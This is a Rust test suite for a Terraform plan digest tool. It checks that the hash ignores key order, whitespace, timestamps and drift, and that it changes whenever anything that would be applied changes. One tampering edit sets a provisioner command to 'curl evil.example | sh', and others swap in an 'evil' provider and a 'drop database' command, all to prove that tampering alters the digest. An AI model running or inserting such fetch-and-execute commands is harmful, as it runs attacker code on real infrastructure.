//! The plan digest: stable under key order, whitespace, timestamps and
//! versions; different whenever what would be applied changes.

use plandeck::plan::{parse_plan, plan_digest};
use serde_json::{Value, json};
use std::sync::Arc;

fn digest_of(doc: &str) -> String {
    parse_plan(Arc::from(doc))
        .unwrap_or_else(|e| panic!("{e}"))
        .digest
}

fn corpus(name: &str) -> Value {
    let text =
        std::fs::read_to_string(format!("tests/fixtures/corpus/plans/{name}")).expect("fixture");
    serde_json::from_str(&text).expect("json")
}

/// Serialises with every object's keys in reverse order and odd spacing.
fn reordered(value: &Value) -> String {
    match value {
        Value::Object(map) => {
            let members: Vec<String> = map
                .iter()
                .rev()
                .map(|(k, v)| format!("{} :  {}", Value::String(k.clone()), reordered(v)))
                .collect();
            format!("{{\n  {} }}", members.join(" ,\n"))
        }
        Value::Array(items) => format!(
            "[ {} ]",
            items.iter().map(reordered).collect::<Vec<_>>().join(" , ")
        ),
        other => other.to_string(),
    }
}

/// A plan with every hashed field present.
fn sample() -> Value {
    json!({
        "format_version": "1.2",
        "terraform_version": "1.9.0",
        "timestamp": "2026-11-01T10:00:00Z",
        "resource_changes": [
            {
                "address": "aws_instance.b", "type": "aws_instance", "name": "b",
                "previous_address": "aws_instance.old_b",
                "change": { "actions": ["delete", "create"],
                            "before": { "ami": "ami-1", "tags": { "a": "1", "b": "2" } },
                            "after": { "ami": "ami-2", "tags": { "a": "1", "b": "2" } },
                            "after_unknown": { "id": true }, "before_sensitive": {}, "after_sensitive": {},
                            "replace_paths": [["ami"]] }
            },
            {
                "address": "aws_instance.a", "type": "aws_instance", "name": "a",
                "change": { "actions": ["no-op"], "before": { "id": "i-1" }, "after": { "id": "i-1" },
                            "after_unknown": {}, "importing": { "id": "i-1" } }
            }
        ],
        "output_changes": {
            "url": { "actions": ["update"], "before": "a", "after": "b", "after_unknown": false }
        },
        "prior_state": { "values": { "x": 1 } },
        "planned_values": { "root_module": {} },
        "configuration": { "root_module": {} },
        "resource_drift": []
    })
}

#[test]
fn digest_ignores_key_order_whitespace_and_resource_order() {
    let doc = sample();
    let base = digest_of(&doc.to_string());
    assert_eq!(digest_of(&reordered(&doc)), base);
    assert_eq!(
        digest_of(&serde_json::to_string_pretty(&doc).expect("pretty")),
        base
    );
    let mut swapped = doc.clone();
    swapped["resource_changes"]
        .as_array_mut()
        .expect("array")
        .reverse();
    assert_eq!(
        digest_of(&swapped.to_string()),
        base,
        "resource order does not count"
    );
    for name in [
        "tfplan2md-azuredevops-plan2.json",
        "tofu-equiv-fully-populated-complex-update-plan.json",
    ] {
        let real = corpus(name);
        assert_eq!(
            digest_of(&reordered(&real)),
            digest_of(&real.to_string()),
            "{name}"
        );
    }
}

#[test]
fn digest_ignores_timestamps_versions_prior_state_and_drift() {
    let base = digest_of(&sample().to_string());
    let edits: Vec<(&str, Value)> = vec![
        ("timestamp", json!("2030-01-01T00:00:00Z")),
        ("terraform_version", json!("1.10.0")),
        ("prior_state", json!({ "values": { "x": 2 } })),
        (
            "planned_values",
            json!({ "root_module": { "resources": [] } }),
        ),
        ("configuration", json!({ "provider_config": {} })),
        (
            "resource_drift",
            json!([{ "address": "x.y", "change": { "actions": ["update"] } }]),
        ),
    ];
    for (field, value) in edits {
        let mut doc = sample();
        doc[field] = value;
        assert_eq!(digest_of(&doc.to_string()), base, "{field} must not count");
    }
    let mut escaped = sample();
    escaped["resource_changes"][0]["change"]["after"]["ami"] = json!("ami-2");
    let text = escaped.to_string().replace("\"ami-2\"", "\"\\u0061mi-2\"");
    assert_eq!(digest_of(&text), base, "string escapes are canonicalised");
}

#[test]
fn digest_changes_with_anything_that_would_be_applied() {
    let base = digest_of(&sample().to_string());
    let edits: Vec<(&str, Value)> = vec![
        ("/resource_changes/0/change/after/ami", json!("ami-3")),
        ("/resource_changes/0/change/after/tags/b", json!("3")),
        ("/resource_changes/0/change/before/ami", json!("ami-0")),
        (
            "/resource_changes/0/change/actions",
            json!(["create", "delete"]),
        ),
        ("/resource_changes/0/change/after_unknown/id", json!(false)),
        (
            "/resource_changes/0/change/replace_paths",
            json!([["tags"]]),
        ),
        ("/resource_changes/0/address", json!("aws_instance.c")),
        (
            "/resource_changes/0/previous_address",
            json!("aws_instance.other"),
        ),
        ("/resource_changes/1/change/importing/id", json!("i-2")),
        ("/output_changes/url/after", json!("c")),
        ("/output_changes/url/actions", json!(["create"])),
    ];
    for (pointer, value) in edits {
        let mut doc = sample();
        *doc.pointer_mut(pointer)
            .unwrap_or_else(|| panic!("{pointer}")) = value;
        assert_ne!(digest_of(&doc.to_string()), base, "{pointer} must count");
    }
    let mut fewer = sample();
    fewer["resource_changes"]
        .as_array_mut()
        .expect("array")
        .pop();
    assert_ne!(
        digest_of(&fewer.to_string()),
        base,
        "a removed change counts"
    );
    let mut number = sample();
    number["resource_changes"][0]["change"]["after"]["size"] = json!(10);
    let ten = digest_of(&number.to_string());
    number["resource_changes"][0]["change"]["after"]["size"] = json!(11);
    assert_ne!(digest_of(&number.to_string()), ten);
}

#[test]
fn digest_has_the_documented_form() {
    let digest = digest_of(&sample().to_string());
    // Scheme 2 names itself: `sha256:v2:<64 lowercase hex>`.
    assert!(digest.starts_with("sha256:v2:"), "{digest}");
    assert_eq!(digest.len(), "sha256:v2:".len() + 64);
    assert!(
        digest[10..]
            .chars()
            .all(|c| c.is_ascii_hexdigit() && !c.is_ascii_uppercase())
    );
    assert_eq!(plandeck::plan::digest_scheme(&digest), Some(2));
    let v1 = format!("sha256:{}", &digest[10..]);
    assert_eq!(plandeck::plan::digest_scheme(&v1), Some(1));
    for other in ["sha256:aaaa", "sha256:v2:abc", "sha256:v1:00", "md5:00", ""] {
        assert_eq!(plandeck::plan::digest_scheme(other), None, "{other}");
    }
    assert_eq!(
        plandeck::plan::scheme_change(&v1).as_deref(),
        Some("digest scheme v1; plans are now digested with v2")
    );
    assert_eq!(plandeck::plan::scheme_change(&digest), None);
    assert_eq!(plandeck::plan::short_digest(&digest), &digest[..22]);
    assert_eq!(plandeck::plan::short_digest(&v1), &v1[..19]);
}

#[test]
fn a_big_file_read_in_two_halves_equals_the_text_parsed_in_memory() {
    let text = plandeck::genplan::plan_string(9_000, 3);
    assert!(
        text.len() > 16 * 1024 * 1024,
        "large enough for the parallel read: {}",
        text.len()
    );
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("big.json");
    std::fs::write(&path, &text).expect("write");
    let from_file = plandeck::plan::load_plan(&path).expect("loads");
    assert_eq!(from_file.digest, digest_of(&text));
    assert_eq!(from_file.resource_changes.len(), 9_000);
}

/// A real plan: Terraform 1.0.3 replacing resources with provisioners, in
/// nested modules, with a sensitive trigger and output (see the fixture's
/// README).
fn real() -> Value {
    let text = std::fs::read_to_string("tests/fixtures/terraform/provisioners-plan.json")
        .expect("fixture");
    serde_json::from_str(&text).expect("json")
}

/// The JSON pointer of the resource change at `address`.
fn change_at(doc: &Value, address: &str) -> String {
    let at = doc["resource_changes"]
        .as_array()
        .expect("array")
        .iter()
        .position(|rc| rc["address"] == address)
        .unwrap_or_else(|| panic!("no {address}"));
    format!("/resource_changes/{at}")
}

/// Sets the value at `pointer`, adding the last key when it is missing.
fn set(doc: &mut Value, pointer: &str, value: Value) {
    let (parent, key) = pointer.rsplit_once('/').expect("a pointer");
    let parent = doc
        .pointer_mut(parent)
        .unwrap_or_else(|| panic!("no parent of {pointer}"));
    match parent {
        Value::Object(map) => {
            map.insert(key.to_string(), value);
        }
        Value::Array(items) => items[key.parse::<usize>().expect("index")] = value,
        _ => panic!("{pointer}: parent is not a container"),
    }
}

const DB: &str = "null_resource.db";
const WORKER: &str = "null_resource.worker[0]";
const NOTIFY: &str = "module.app.module.hook.null_resource.notify";
const ROOT: &str = "/configuration/root_module";
const HOOK: &str = "/configuration/root_module/module_calls/app/module/module_calls/hook";

#[test]
fn every_field_of_a_real_plan_counts_alone() {
    let base_doc = real();
    let base = digest_of(&base_doc.to_string());
    let db = change_at(&base_doc, DB);
    let worker = change_at(&base_doc, WORKER);
    let notify = change_at(&base_doc, NOTIFY);
    let edits: Vec<(String, Value)> = vec![
        (
            format!("{worker}/address"),
            json!("null_resource.worker[7]"),
        ),
        (format!("{db}/type"), json!("aws_db_instance")),
        (format!("{db}/name"), json!("other")),
        (format!("{db}/mode"), json!("data")),
        (
            format!("{db}/provider_name"),
            json!("registry.terraform.io/evil/null"),
        ),
        (format!("{worker}/index"), json!(7)),
        (format!("{notify}/module_address"), json!("module.app")),
        (format!("{db}/deposed"), json!("00000001")),
        (format!("{db}/change/actions"), json!(["create", "delete"])),
        (
            format!("{db}/action_reason"),
            json!("replace_because_tainted"),
        ),
        (format!("{db}/change/replace_paths"), json!([["id"]])),
        (format!("{db}/change/importing"), json!({"id": "1234"})),
        (format!("{db}/previous_address"), json!("null_resource.old")),
        (format!("{db}/change/before/triggers/release"), json!("0")),
        (format!("{db}/change/after/triggers/release"), json!("3")),
        (format!("{db}/change/after_unknown/id"), json!(false)),
        (format!("{db}/change/before_sensitive"), json!(true)),
        (format!("{db}/change/after_sensitive"), json!(true)),
        (
            format!("{db}/change/after_sensitive/triggers/password"),
            json!(false),
        ),
        (
            format!("{db}/change/generated_config"),
            json!("resource \"null_resource\" \"db\" {}"),
        ),
        ("/output_changes/release/actions".into(), json!(["create"])),
        ("/output_changes/release/before".into(), json!("0")),
        ("/output_changes/release/after".into(), json!("3")),
        ("/output_changes/release/after_unknown".into(), json!(true)),
        (
            "/output_changes/release/before_sensitive".into(),
            json!(true),
        ),
        (
            "/output_changes/release/after_sensitive".into(),
            json!(true),
        ),
        (format!("{ROOT}/outputs/release/sensitive"), json!(true)),
        (
            format!("{ROOT}/resources/0/provisioners/0/expressions/command/constant_value"),
            json!("echo drop database"),
        ),
        (
            format!("{ROOT}/resources/0/provisioners/0/type"),
            json!("remote-exec"),
        ),
        (
            format!("{ROOT}/resources/0/provisioners/0/when"),
            json!("destroy"),
        ),
        (
            format!("{ROOT}/resources/1/provisioners"),
            json!([{"type": "local-exec", "expressions": {"command": {"constant_value": "id"}}}]),
        ),
        (
            format!("{HOOK}/module/resources/0/provisioners/0/expressions/command/constant_value"),
            json!("curl evil.example | sh"),
        ),
        (
            format!(
                "{HOOK}/module/resources/0/provisioners/0/expressions/environment/constant_value/STAGE"
            ),
            json!("dev"),
        ),
        (
            format!("{ROOT}/module_calls/app/source"),
            json!("git::https://example.com/app.git?ref=main"),
        ),
        (format!("{HOOK}/source"), json!("./modules/other")),
        (
            format!("{ROOT}/module_calls/app/version_constraint"),
            json!("1.0.0"),
        ),
        (
            format!("{ROOT}/module_calls/extra"),
            json!({"source": "./extra", "module": {}}),
        ),
    ];
    // Each pointer must exist in the real plan, or be added next to real
    // siblings: a typo would make the test pass for the wrong reason.
    let mut seen = std::collections::BTreeSet::new();
    for (pointer, value) in edits {
        let mut doc = base_doc.clone();
        assert_ne!(doc.pointer(&pointer), Some(&value), "{pointer} is an edit");
        set(&mut doc, &pointer, value);
        let digest = digest_of(&doc.to_string());
        assert_ne!(digest, base, "{pointer} must count");
        assert!(seen.insert(digest), "{pointer}: a digest seen before");
    }
}

#[test]
fn a_real_plan_keeps_its_digest_under_order_spacing_timestamps_and_other_configuration() {
    let doc = real();
    let base = digest_of(&doc.to_string());
    assert_eq!(digest_of(&reordered(&doc)), base, "key order and spacing");
    let edits: Vec<(String, Value)> = vec![
        ("/timestamp".into(), json!("2031-05-06T07:08:09Z")),
        ("/terraform_version".into(), json!("1.0.4")),
        (
            "/configuration/provider_config/null/version_constraint".into(),
            json!("2.1.3"),
        ),
        (format!("{ROOT}/variables/release/default"), json!("9")),
        (
            format!("{ROOT}/resources/1/expressions/triggers"),
            json!({"references": ["var.other"]}),
        ),
        ("/variables/release/value".into(), json!("9")),
        // Sensitivity the configuration already declares.
        (
            "/output_changes/password/after_sensitive".into(),
            json!(false),
        ),
    ];
    for (pointer, value) in edits {
        let mut doc = real();
        set(&mut doc, &pointer, value);
        assert_eq!(
            digest_of(&doc.to_string()),
            base,
            "{pointer} must not count"
        );
    }
    let mut swapped = real();
    swapped["resource_changes"]
        .as_array_mut()
        .expect("array")
        .reverse();
    assert_eq!(digest_of(&swapped.to_string()), base, "resource order");
}

#[test]
fn the_configuration_of_a_real_plan_is_read_recursively() {
    let plan = parse_plan(Arc::from(real().to_string())).expect("plan");
    let calls: Vec<(&str, Option<&str>)> = plan
        .configuration
        .module_calls
        .iter()
        .map(|c| (c.address.as_str(), c.source.as_deref()))
        .collect();
    assert_eq!(
        calls,
        [
            ("module.app", Some("./modules/app")),
            ("module.app.module.hook", Some("./modules/hook")),
        ]
    );
    let provisioned: Vec<(&str, Vec<&str>)> = plan
        .configuration
        .provisioned
        .iter()
        .map(|r| {
            let kinds = r.provisioners.iter().map(|p| p.kind.as_str()).collect();
            (r.address.as_str(), kinds)
        })
        .collect();
    assert_eq!(
        provisioned,
        [(NOTIFY, vec!["local-exec"]), (DB, vec!["local-exec"]),]
    );
}

/// Hardening: a configuration entry that does not read no longer refuses
/// the plan; it is a one-line warning, kept whole (and so still hashed), and
/// a module call that does not read counts as a source that can move.
#[test]
fn a_malformed_configuration_entry_is_a_one_line_warning_and_stays_bound() {
    let mut doc = real();
    set(
        &mut doc,
        &format!("{ROOT}/resources/0/provisioners/0/type"),
        json!(7),
    );
    let plan = parse_plan(Arc::from(doc.to_string())).expect("opens with a warning");
    let warning = plan
        .warnings
        .iter()
        .find(|w| w.contains("provisioner 1"))
        .unwrap_or_else(|| panic!("{:?}", plan.warnings));
    assert!(warning.contains("wrong type"), "{warning}");
    assert_eq!(warning.lines().count(), 1);
    assert_eq!(plan.configuration.unread.len(), 1);
    assert_ne!(
        plan_digest(&plan).expect("digest"),
        plan_digest(&parse_plan(Arc::from(real().to_string())).expect("reads")).expect("digest"),
        "the unread provisioner is still hashed"
    );

    let mut doc = real();
    set(
        &mut doc,
        &format!("{ROOT}/module_calls/app/source"),
        json!(["x"]),
    );
    let plan = parse_plan(Arc::from(doc.to_string())).expect("opens with a warning");
    assert!(
        plan.warnings
            .iter()
            .any(|w| w.contains("configuration: module.app")),
        "{:?}",
        plan.warnings
    );
    let moving = plandeck::risk::moving_sources(&plan.configuration);
    assert!(
        moving
            .iter()
            .any(|m| m.module == "module.app" && m.source.is_none()),
        "{moving:?}"
    );
}
